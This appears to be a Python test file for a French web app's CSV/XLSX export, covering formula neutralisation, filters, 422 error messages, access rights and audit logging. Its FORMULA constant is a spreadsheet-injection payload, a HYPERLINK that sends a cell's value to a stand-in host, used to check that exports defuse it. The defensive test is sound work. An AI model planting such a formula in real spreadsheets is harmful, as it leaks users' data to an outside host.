"""Export of a filtered list from the screens (issue 14): spreadsheet-safe, same rights as the API."""

from __future__ import annotations

import csv
import io

import openpyxl
from selectolax.lexbor import LexborHTMLParser

from .conftest import besoin, create_row, page_client

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")'


def test_formulas_are_neutralised_in_both_formats(env):
    create_row(env.store, "projets", "own", titre=FORMULA)
    c = page_client(env, None)  # projets are public, as in the API
    r = c.get("/export/telecharger", params={"type": "projets", "format": "csv", "code_region": "32"})
    assert r.status_code == 200 and r.headers["content-disposition"] == 'attachment; filename="projets.csv"'
    row = next(csv.DictReader(io.StringIO(r.content.decode())))
    assert row["titre"] == "'" + FORMULA
    x = c.get("/export/telecharger", params={"type": "projets", "format": "xlsx"})
    ws = openpyxl.load_workbook(io.BytesIO(x.content)).worksheets[0]
    header = [cell.value for cell in ws[1]]
    cell = ws.cell(row=2, column=header.index("titre") + 1)
    assert cell.value == FORMULA and cell.data_type == "s"


def test_filters_count_and_refusals(env):
    create_row(env.store, "projets", "own", titre="Projet test 32")
    create_row(env.store, "projets", "other", titre="Projet test 84")
    c = page_client(env, "region")
    page = c.get("/export", params={"type": "projets", "code_region": "84"})
    assert LexborHTMLParser(page.text).css_first("#export-total strong").text() == "1"
    links = [a.attributes["href"] for a in LexborHTMLParser(page.text).css("a[download]")]
    assert links == ["/export/telecharger?type=projets&code_region=84&format=csv",
                     "/export/telecharger?type=projets&code_region=84&format=xlsx"]
    empty = c.get("/export", params={"type": "missions"})
    assert "Aucune ligne" in empty.text and "/import?type=missions" in empty.text
    unknown = c.get("/export/telecharger", params={"type": "copil", "statut": "x"})
    assert unknown.status_code == 422 and "Filtre « statut » inconnu pour copil" in unknown.text
    api = env.client("region").get("/api/v1/programme/export", params={"type": "copil", "statut": "x"})
    assert api.status_code == 422 and "Filtre « statut » inconnu pour copil" in api.json()["detail"]
    assert c.get("/export/telecharger", params={"type": "projets", "format": "pdf"}).status_code == 422


def test_firm_level_types_need_rights(env):
    besoin(env.store, "own", statut="transmis", nom_entreprise="Forges test Artois")
    besoin(env.store, "other", statut="transmis", nom_entreprise="Usine test Isère")
    anon = page_client(env, None).get("/export/telecharger", params={"type": "besoins", "format": "csv"})
    assert anon.status_code == 303 and anon.headers["location"].startswith("/connexion?suivant=/export/telecharger")
    lecteur = page_client(env, "lecteur").get("/export/telecharger", params={"type": "besoins"})
    assert lecteur.status_code == 403 and "lecteur" in lecteur.text
    mine = page_client(env, "epci").get("/export/telecharger", params={"type": "besoins", "format": "csv"})
    assert "Usine test Isère" not in mine.text and "Forges test Artois" in mine.text
    assert mine.headers["cache-control"] == "no-store"
    audit = env.client("admin").get("/api/v1/programme/audit", params={"entity": "besoins"}).json()
    assert audit[0]["action"] == "export" and audit[0]["actor_email"] == "epci@test.invalid"
